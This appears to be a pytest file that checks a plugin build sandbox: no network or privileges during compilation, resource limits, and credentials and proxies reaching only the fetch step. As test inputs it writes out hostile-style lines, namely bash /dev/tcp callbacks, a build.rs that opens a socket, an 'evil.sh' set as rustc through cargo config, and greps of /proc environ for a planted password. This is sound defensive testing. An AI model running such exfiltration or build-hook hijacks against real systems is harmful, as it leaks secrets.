from __future__ import annotations

import contextlib
import json
import socketserver
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest
from docker.errors import APIError

from pluginyard.errors import BuildError
from tests.machine.builds import GO_PLUGIN, RUST_PLUGIN, Bench, source_of

MODULE = '"$HOME/../out/plugin.wasm"'
DONE = f"echo x > {MODULE}"
SECRET = "pass-4711-word"


@pytest.fixture
def listener(bench: Bench) -> Iterator[tuple[str, int, list[bytes]]]:
    """Listen where containers with network reach this machine; give address, port and what was sent."""
    heard: list[bytes] = []

    class Handler(socketserver.StreamRequestHandler):
        def handle(self) -> None:
            heard.append(self.rfile.readline())

    gateway = bench.engine.client.inspect_network("bridge")["IPAM"]["Config"][0]["Gateway"]
    with socketserver.ThreadingTCPServer((gateway, 0), Handler) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield gateway, server.server_address[1], heard
        server.shutdown()


def test_only_the_fetch_step_reaches_the_network(bench: Bench, listener: tuple[str, int, list[bytes]]) -> None:
    host, port, heard = listener
    call = f"bash -c 'echo from-{{}} > /dev/tcp/{host}/{port}'"
    bench.shell(f"{call.format('compile')} && exit 1; {DONE}", fetching=call.format("fetch"))
    assert heard == [b"from-fetch\n"]


def test_a_build_script_of_a_crate_has_no_network(bench: Bench, listener: tuple[str, int, list[bytes]]) -> None:
    host, port, heard = listener
    script = f"""
fn main() {{
    let told = std::net::TcpStream::connect("{host}:{port}");
    println!("cargo:warning=connected={{}}", told.is_ok());
}}
"""
    bench.build("rust", {**RUST_PLUGIN, "build.rs": script}, needs_fetch=False)
    assert "connected=false" in bench.log
    assert heard == []


def test_the_compile_step_has_no_privilege_and_a_read_only_root(bench: Bench) -> None:
    look = (
        "id -u; grep -E '^(CapEff|CapBnd|NoNewPrivs)' /proc/self/status; ls /sys/class/net;"
        " touch /etc/x 2>&1; touch /x 2>&1; ulimit -n; ls -ld /build/src; cat /proc/1/comm"
    )
    bench.shell(f"{look}; {DONE}")
    lines = bench.log.splitlines()
    assert lines[0] == "65534"
    assert "CapEff:\t0000000000000000" in lines
    assert "CapBnd:\t0000000000000000" in lines
    assert "NoNewPrivs:\t1" in lines
    assert lines[4:7] == ["lo", "touch: cannot touch '/etc/x': Read-only file system", lines[6]]
    assert "Read-only file system" in lines[6]


def test_the_limits_are_those_of_the_settings(bench: Bench) -> None:
    seen: list[dict[str, object]] = []

    def look(_: str) -> None:
        for each in bench.engine.client.containers(filters={"label": f"io.pluginyard.run={bench.run_id}"}):
            seen.append(bench.engine.client.inspect_container(each["Id"])["HostConfig"])

    bench.allowing(memory=300, processes=33, cpus=1.5).shell(f"echo now; sleep 1; {DONE}", log=look)
    limits = seen[0]
    assert limits["Memory"] == limits["MemorySwap"] == 300 * 1024 * 1024
    assert limits["PidsLimit"] == 33
    assert limits["NanoCpus"] == min(1.5, bench.engine.cpus) * 1e9
    assert limits["NetworkMode"] == "none"
    assert limits["ReadonlyRootfs"] is True
    assert limits["CapDrop"] == ["ALL"]
    assert limits["SecurityOpt"] == ["no-new-privileges"]


def test_mirrors_proxies_and_authorities_reach_the_fetch_step_only(bench: Bench, tmp_path: Path) -> None:
    bundle = tmp_path / "ca.pem"
    bundle.write_text("AUTHORITY-OF-THIS-SITE\n")
    look = 'echo {}; env; cat /pluginyard-ca.pem 2>&1; cat "$SSL_CERT_FILE" 2>&1'
    mirrors = {"HTTPS_PROXY": "http://proxy.example.com:3128", "GOPROXY": "https://mirror.example.com"}
    chosen = bench.allowing(ca_bundle=str(bundle), fetch_environment=mirrors)
    chosen.shell(f"{look.format('COMPILING')}; {DONE}", fetching=look.format("FETCHING") + "; true")
    fetching, _, compiling = bench.log.partition("COMPILING")
    for word in ("HTTPS_PROXY=http://proxy.example.com:3128", "GOPROXY=https://mirror", "AUTHORITY-OF-THIS-SITE"):
        assert word in fetching
        assert word not in compiling
    assert "SSL_CERT_FILE=" in fetching
    assert "SSL_CERT_FILE=" not in compiling
    assert str(tmp_path) not in bench.log


def test_the_passwords_of_hosts_are_seen_by_the_fetch_step_only(bench: Bench, tmp_path: Path) -> None:
    netrc = tmp_path / "netrc"
    netrc.write_text(f"machine git.example.com login ci password {SECRET}\n")
    asked = 'echo {}; env; ls -l "$HOME/.netrc" /pluginyard-netrc; '
    asked += '[ -s "$NETRC" ] && cmp ~/.netrc "$NETRC" && echo IS THERE'
    looked = f"{asked.format('COMPILING')}; grep -rsq pass-4711 / --exclude-dir=proc --exclude-dir=sys && echo FOUND"
    chosen = bench.allowing(netrc=str(netrc))
    chosen.shell(f"{looked}; {DONE}", fetching=f"{asked.format('FETCHING')}; true")
    fetching, _, compiling = bench.log.partition("COMPILING")
    assert "IS THERE" in fetching
    assert "-r-------- 1 65534" in fetching or "-r-------- 1 nobody" in fetching
    assert "IS THERE" not in compiling
    assert "NETRC" not in compiling
    assert "FOUND" not in compiling
    assert SECRET not in bench.log
    assert str(tmp_path) not in bench.log
    assert bench.left() == []


def test_no_password_of_this_process_reaches_a_container(bench: Bench, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("REGISTRY_PASSWORD", SECRET)
    monkeypatch.setenv("REGISTRY_USERNAME", "somebody")
    told: list[str] = []

    def look(text: str) -> None:
        told.append(text)
        client = bench.engine.client
        for each in client.containers(filters={"label": f"io.pluginyard.run={bench.run_id}"}):
            told.append(json.dumps(client.inspect_container(each["Id"])))
            with contextlib.suppress(APIError):  # it may have ended just now
                told.append(json.dumps(client.top(each["Id"])))

    everything = "env; cat /proc/*/cmdline /proc/*/environ 2>/dev/null | tr '\\0' '\\n'; sleep 1; "
    everything += "grep -rs {} /work /tmp; echo end"
    bench.shell(f"{everything.format('pass-4711')}; {DONE}", fetching=everything.format("pass-4711"), log=look)
    text = "\n".join(told)
    assert "PLUGINYARD_FOLDER" in text
    assert '"Processes"' in text
    assert SECRET not in text
    assert "somebody" not in text


def test_a_crate_names_no_program_that_runs_in_the_fetch_step(
    bench: Bench, listener: tuple[str, int, list[bytes]]
) -> None:
    host, port, heard = listener
    files = {
        **RUST_PLUGIN,
        ".cargo/config.toml": '[build]\nrustc = "./evil.sh"\n',
        "evil.sh": f"#!/bin/bash\necho EVIL >&2\necho called > /dev/tcp/{host}/{port}\nexit 1\n",
    }
    source = source_of(files, executable=True)
    with pytest.raises(BuildError, match="EVIL") as raised:  # it does run, where there is no network
        bench.build("rust", source=source, needs_fetch=True)
    assert "did not compile" in raised.value.message
    assert heard == []


def test_go_flags_in_the_source_are_not_honoured(bench: Bench) -> None:
    files = {
        **GO_PLUGIN,
        "go.env": "GOFLAGS=-toolexec=/bin/false\n",
        ".config/go/env": "GOFLAGS=-toolexec=/bin/false\n",
    }
    assert bench.build("go", files, needs_fetch=False).size > 0
